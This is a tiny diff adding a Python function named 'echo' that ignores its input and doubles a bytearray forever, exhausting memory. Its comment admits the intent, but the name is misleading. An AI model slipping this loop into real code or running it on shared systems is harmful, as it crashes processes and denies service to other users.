@@ -1,0 +1,5 @@
+# Doubles bytes until nothing holds them.
+def echo(numbers):
+    data = bytearray(b"x")
+    while True:
+        data += bytes(data)
